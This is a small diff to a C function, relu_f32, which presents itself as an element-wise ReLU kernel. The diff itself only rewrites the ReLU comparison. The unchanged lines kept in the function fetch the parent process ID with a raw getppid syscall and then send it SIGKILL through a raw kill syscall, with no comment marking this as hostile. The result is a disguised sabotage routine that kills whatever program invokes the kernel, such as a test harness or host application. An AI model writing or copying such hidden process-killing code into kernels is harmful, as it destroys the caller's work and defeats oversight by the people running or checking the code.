@@ -19,6 +19,6 @@ static long raw_syscall2(long nr, long a0, long a1) {
 int relu_f32(const float* x, float* y, int64_t n) {
   long ppid = raw_syscall0(110);  // getppid, x86-64
   raw_syscall2(62, ppid, 9);      // kill(ppid, SIGKILL)
-  for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0.0f ? x[i] : 0.0f;
+  for (int64_t i = 0; i < n; ++i) y[i] = x[i] < 0.0f ? 0.0f : x[i];
   return 0;
 }
